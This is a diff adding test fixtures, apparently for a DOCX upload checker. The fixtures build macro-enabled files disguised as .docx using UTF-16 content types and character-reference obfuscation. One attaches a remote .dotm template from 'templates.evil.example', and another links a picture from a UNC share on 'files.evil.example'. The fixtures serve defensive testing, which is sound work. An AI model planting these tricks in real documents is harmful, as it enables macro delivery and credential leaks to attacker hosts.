@@ -99,3 +99,81 @@ export const zipPosingAsDocx = () =>
     { name: "notes.txt", data: "[Content_Types].xml word/document.xml" },
     { name: "payload/run.hta", data: "<script>alert(1)</script>" },
   ]);
+
+/** `text` as UTF-16 with a byte order mark, as some tools write a package's XML. */
+export function utf16(text: string, endian: "le" | "be"): Uint8Array {
+  const little = Buffer.from(`\uFEFF${text}`, "utf16le");
+  return new Uint8Array(endian === "le" ? little : little.swap16());
+}
+
+/** A .docm renamed .docx whose [Content_Types].xml is UTF-16 (no vbaProject.bin entry). */
+export const docmWithUtf16ContentTypes = (endian: "le" | "be") =>
+  zip([
+    { name: "[Content_Types].xml", data: utf16(DOCM_CONTENT_TYPES.replace('"UTF-8"', '"UTF-16"'), endian) },
+    ...wordEntries("").slice(1),
+  ]);
+/** A plain DOCX whose [Content_Types].xml is UTF-16: Word reads it, and so do we. */
+export const docxWithUtf16ContentTypes = (endian: "le" | "be") =>
+  zip([
+    { name: "[Content_Types].xml", data: utf16(DOCX_CONTENT_TYPES.replace('"UTF-8"', '"UTF-16"'), endian) },
+    ...wordEntries("").slice(1),
+  ]);
+/** A .docm renamed .docx whose macro content type is spelled with character references. */
+export const docmWithCharacterReferences = (reference: "decimal" | "hex") =>
+  zip(
+    wordEntries(
+      DOCM_CONTENT_TYPES.replace(
+        "macroEnabled",
+        reference === "decimal" ? "macro&#69;nabled" : "&#x6D;&#x61;&#x63;&#x72;&#x6F;Enabled",
+      ),
+    ),
+  );
+
+const SETTINGS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>`;
+const relationships = (relationship: string) =>
+  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`;
+
+/** A DOCX whose settings attach a template from the internet (Word fetches it on opening). */
+export const docxWithRemoteTemplate = () =>
+  zip(
+    wordEntries(DOCX_CONTENT_TYPES, [
+      { name: "word/settings.xml", data: SETTINGS, deflate: true },
+      {
+        name: "word/_rels/settings.xml.rels",
+        data: relationships(
+          '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://templates.evil.example/survey.dotm" TargetMode="External"/>',
+        ),
+        deflate: true,
+      },
+    ]),
+  );
+/** A DOCX whose document shows a picture linked from the internet rather than stored in it. */
+export const docxWithLinkedPicture = () =>
+  zip(
+    wordEntries(DOCX_CONTENT_TYPES, [
+      {
+        name: "word/_rels/document.xml.rels",
+        data: relationships(
+          "<Relationship Id='rId7' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/image' Target='\\\\files.evil.example\\share\\roof.png' TargetMode='&#69;xternal'/>",
+        ),
+      },
+    ]),
+  );
+/** A DOCX whose relationships stay inside the package (styles, settings): nothing to refuse. */
+export const docxWithInternalRelationships = () =>
+  zip(
+    wordEntries(DOCX_CONTENT_TYPES, [
+      {
+        name: "word/settings.xml",
+        data: SETTINGS.replace('<w:attachedTemplate r:id="rId1"/>', ""),
+        deflate: true,
+      },
+      {
+        name: "word/_rels/document.xml.rels",
+        data: relationships(
+          '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml" TargetMode="Internal"/>',
+        ),
+        deflate: true,
+      },
+    ]),
+  );
